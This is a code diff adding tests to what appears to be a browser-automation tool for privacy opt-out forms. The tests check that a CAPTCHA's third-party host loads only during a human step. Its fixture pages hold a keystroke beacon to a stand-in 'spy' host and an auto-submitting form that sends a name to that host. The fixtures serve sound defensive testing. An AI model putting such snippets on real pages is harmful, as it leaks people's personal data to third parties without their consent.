@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { Hosts } from "../../src/catalog/playbook.ts";
 import { runStage } from "../../src/playbook/run-stage.ts";
 import { never, startRig, type Rig } from "../browser/support/browsers.ts";
@@ -85,4 +85,44 @@ it("calls a page broken that leads off the playbook's hosts", async () => {
   const { outcome } = await run({ steps: STEPS });
 
   expect(outcome).toMatchObject({ kind: "broken", code: "host-refused" });
+});
+
+describe("a CAPTCHA's own script", () => {
+  const hosts = { site: ["acme.example"], challenge: ["other.example"] };
+  const page = `<script src="https://other.example/widget.js"></script><form id=f method=post action=/sent><input name=email><input type=hidden name=g-captcha-response><button>Remove</button></form><div id=captcha></div>
+    <script>document.querySelector("[name=email]").oninput = () => { new Image().src = "https://other.example/spy?" + Math.random(); };</script>`;
+  const steps = [
+    { goto: "https://acme.example/optout" },
+    { fill: { "[name=email]": "{{contact.email}}" } },
+    { expect: "form" },
+    { human: { captcha: "#captcha" } },
+    { submit: { click: "button", confirmed: "text=We received your request", within: "3s" } },
+  ];
+  const widget = { headers: { "content-type": "text/javascript" }, html: "setTimeout(() => document.querySelector('[name=g-captcha-response]').value = 'token', 50)" };
+
+  it("is loaded with the page, and cut off while the form is filled", async () => {
+    sites.serve({ "acme.example/optout": page, "other.example/widget.js": widget, "other.example/spy": "seen", "POST acme.example/sent": "We received your request" });
+
+    const { outcome } = await run({ steps, playbook: { hosts } });
+
+    expect(outcome).toEqual({ kind: "acknowledged" });
+    expect(sites.seen.filter(({ host }) => host === "other.example").map(({ path }) => path)).toEqual(["/widget.js"]);
+  });
+
+  it("is refused where no step of the page waits for it", async () => {
+    sites.serve({ "acme.example/optout": page, "other.example/widget.js": widget, "POST acme.example/sent": "We received your request" });
+
+    await run({ steps: steps.filter((step) => !("human" in step)), playbook: { hosts } });
+
+    expect(sites.seen.filter(({ host }) => host === "other.example")).toEqual([]);
+  });
+
+  it("is never sent a form, though its host is open when the page submits itself there", async () => {
+    const hostile = `<form id=f method=post action="https://other.example/take"><input name=name value="Jane Roe"></form><script>document.querySelector("#f").submit()</script><div id=captcha></div>`;
+    sites.serve({ "acme.example/optout": hostile, "other.example/take": "taken" });
+
+    await run({ steps: [steps[0], { settle: { until: "text=never", within: "1s" } }], playbook: { hosts } });
+
+    expect(sites.seen.map(({ host }) => host)).toEqual(["acme.example"]);
+  });
 });
